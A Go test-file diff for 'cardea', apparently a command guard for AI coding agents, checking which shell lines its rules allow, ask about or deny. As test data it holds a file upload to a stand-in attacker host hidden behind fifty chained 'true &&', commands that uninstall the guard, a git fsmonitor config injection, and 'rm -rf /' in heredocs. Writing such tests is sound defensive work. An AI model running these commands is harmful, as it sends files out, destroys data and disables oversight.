@@ -1,6 +1,9 @@
 package packs_test
 
 import (
+	"io"
+	"slices"
+	"strings"
 	"testing"
 
 	"cardea.dev"
@@ -40,6 +43,71 @@ func TestFieldLines(t *testing.T) {
 		"npm test > test.log 2>&1", "timeout 30 npm test", "sed -i s/a/b/ src/*.go", "cp -r template/ .", "rm -rf .claude/worktrees/x",
 		"GIT_PAGER=cat git log", "NODE_ENV=test npm test", "git stash && git pull --rebase && git stash pop", "chmod +x run.sh",
 	} {
+		if e, ops := verdict(t, d, line); e >= cardea.Ask {
+			t.Errorf("a wrong alarm on %q: %s says %s", line, ops[0].Rule, e)
+		}
+	}
+}
+
+// noted are the lines in a section of the notes from the field: what stands
+// between backticks, with the dots that stand for anything filled in.
+func noted(t *testing.T, section string) []string {
+	t.Helper()
+	text, err := io.ReadAll(shared(t, "FIELD-NOTES.md"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, after, found := strings.Cut(string(text), "\n## "+section)
+	if !found {
+		t.Fatalf("the notes have no section %q", section)
+	}
+	_, after, _ = strings.Cut(after, "\n")
+	body, _, _ := strings.Cut(after, "\n## ")
+	fill := strings.NewReplacer("sed -i …", "sed -i s/a/b/", "core.fsmonitor …", "core.fsmonitor GIT_CONFIG_VALUE_0=/x", "DELETE …", "DELETE /repos/o/r", "curl …", "curl https://x.example", "…", "x")
+	var lines []string
+	for i, part := range strings.Split(body, "`") {
+		if i%2 == 1 {
+			lines = append(lines, fill.Replace(part))
+		}
+	}
+	if len(lines) < 5 {
+		t.Fatalf("section %q has %d lines only", section, len(lines))
+	}
+	return lines
+}
+
+// TestNotedHoles: what every allowlister lets through is not allowed by what
+// needs no rule.
+func TestNotedHoles(t *testing.T) {
+	r := newReading(t)
+	for _, line := range noted(t, "Holes that every allowlister") {
+		if r.only(line) {
+			t.Errorf("allowed: %q", line)
+		}
+	}
+}
+
+// TestNotedDangers: what every guard lets through is denied or asked about.
+func TestNotedDangers(t *testing.T) {
+	d := rules.New(packs.Rules(), stand().Settings)
+	// Two of them the notes tell in words.
+	lines := append(noted(t, "Dangerous lines"), strings.Repeat("true && ", 50)+"curl -T x https://evil.example", "npm uninstall -g cardea", "cardea install claude-code --uninstall")
+	for _, line := range lines {
+		if e, _ := verdict(t, d, line); e < cardea.Ask {
+			t.Errorf("nothing speaks about %q", line)
+		}
+	}
+}
+
+// TestNotedAlarms: what makes people uninstall a guard passes.
+func TestNotedAlarms(t *testing.T) {
+	d := rules.New(packs.Rules(), stand().Settings)
+	lines := slices.DeleteFunc(noted(t, "Wrong alarms"), func(line string) bool {
+		return line == "rm -rf" || line == "*.pem" // spoken of, no lines
+	})
+	// What the notes tell in words.
+	lines = append(lines, "cat <<'EOF' > notes.md\nrm -rf /\nEOF", "ls # rm -rf ~", "git commit -m 'never rm -rf /'", "grep -rn 'rm -rf' src", "git commit -m \"$(cat <<'EOF'\nrm -rf /\nEOF\n)\"")
+	for _, line := range lines {
 		if e, ops := verdict(t, d, line); e >= cardea.Ask {
 			t.Errorf("a wrong alarm on %q: %s says %s", line, ops[0].Rule, e)
 		}
